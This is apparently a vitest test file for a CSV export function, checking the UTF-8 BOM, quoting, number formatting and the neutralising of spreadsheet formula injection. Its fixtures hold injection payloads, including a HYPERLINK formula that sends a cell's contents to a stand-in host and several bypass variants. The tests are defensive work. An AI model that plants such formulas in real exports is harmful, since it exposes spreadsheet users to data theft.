import Papa from "papaparse";
import { describe, expect, it } from "vitest";

import { csvLine, fixedNumber, neutralise, toCsv, UTF8_BOM } from "../csv";

/** Case 16's audience: name, email, phone, last comment, monetary (the sum of each person's orders). */
const audience = [
  ['=HYPERLINK("http://prize.example/?d="&A1,"Claim prize")', "sunny.w@example.cn", "+8613500135000", "=1+1", 300],
  ["+1+1", "mk.art@example.com", "+14155550134", "@SUM(1,1)", 250],
  ["-2+3", "yu.h@example.cn", "+8613400134000", "\t=1+1", -12.5 + 212.5],
  ["Plain Jane", "plain.jane@example.com", "+447700900123", " =2+2", 180],
  ["林小雨", "lin.xy@example.cn", "+8613300133000", "很喜欢这次活动", 220],
] as const;

const file = () =>
  toCsv([
    ["name", "email", "phone", "last_comment", "monetary"],
    ...audience.map(([name, email, phone, comment, monetary]) => [name, email, phone, comment, fixedNumber(monetary, 2)]),
  ]);

describe("CSV export (case 16)", () => {
  it("starts with the UTF-8 BOM and keeps Chinese text readable", () => {
    const bytes = Buffer.from(file(), "utf8");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file()).toContain("林小雨,lin.xy@example.cn");
    expect(file()).toContain("很喜欢这次活动");
  });

  it("prefixes every formula-looking text cell with one apostrophe, leaving plain text alone", () => {
    const rows = Papa.parse<string[]>(file().slice(UTF8_BOM.length), { skipEmptyLines: true }).data;
    expect(rows).toHaveLength(6);
    expect(rows.slice(1).map((r) => r[0])).toEqual([
      `'=HYPERLINK("http://prize.example/?d="&A1,"Claim prize")`,
      "'+1+1",
      "'-2+3",
      "Plain Jane",
      "林小雨",
    ]);
    expect(rows.slice(1).map((r) => r[3])).toEqual(["'=1+1", "'@SUM(1,1)", "'\t=1+1", "' =2+2", "很喜欢这次活动"]);
    expect(rows[1][2]).toBe("'+8613500135000");
  });

  it("writes the app's own numbers plain: 200.00 for yu.h (−12.50 + 212.50), 300.00, 250.00, 180.00, 220.00", () => {
    const rows = Papa.parse<string[]>(file().slice(UTF8_BOM.length), { skipEmptyLines: true }).data;
    expect(rows.slice(1).map((r) => r[4])).toEqual(["300.00", "250.00", "200.00", "180.00", "220.00"]);
    expect(csvLine([fixedNumber(-12.5, 2), 3, null])).toBe("-12.50,3,\r\n");
  });

  it("doubles inner quotes and quotes cells holding commas or line breaks", () => {
    expect(file()).toContain(`"'=HYPERLINK(""http://prize.example/?d=""&A1,""Claim prize"")"`);
    expect(csvLine(["a,b", "line\nbreak", 'say "hi"'])).toBe(`"a,b","line\nbreak","say ""hi"""\r\n`);
  });

  it("catches the bypasses: spaces before =, a leading tab or carriage return; not a minus inside text", () => {
    expect(neutralise("   =1")).toBe("'   =1");
    expect(neutralise("\r=1")).toBe("'\r=1");
    expect(neutralise("\tplain")).toBe("'\tplain");
    expect(neutralise("a-b")).toBe("a-b");
    expect(neutralise("")).toBe("");
  });

  it("can leave the BOM out (for machine uploads that are pure ASCII) and refuses non-finite numbers", () => {
    expect(toCsv([["Email"]], { bom: false })).toBe("Email\r\n");
    expect(() => csvLine([Number.NaN])).toThrow(RangeError);
  });
});
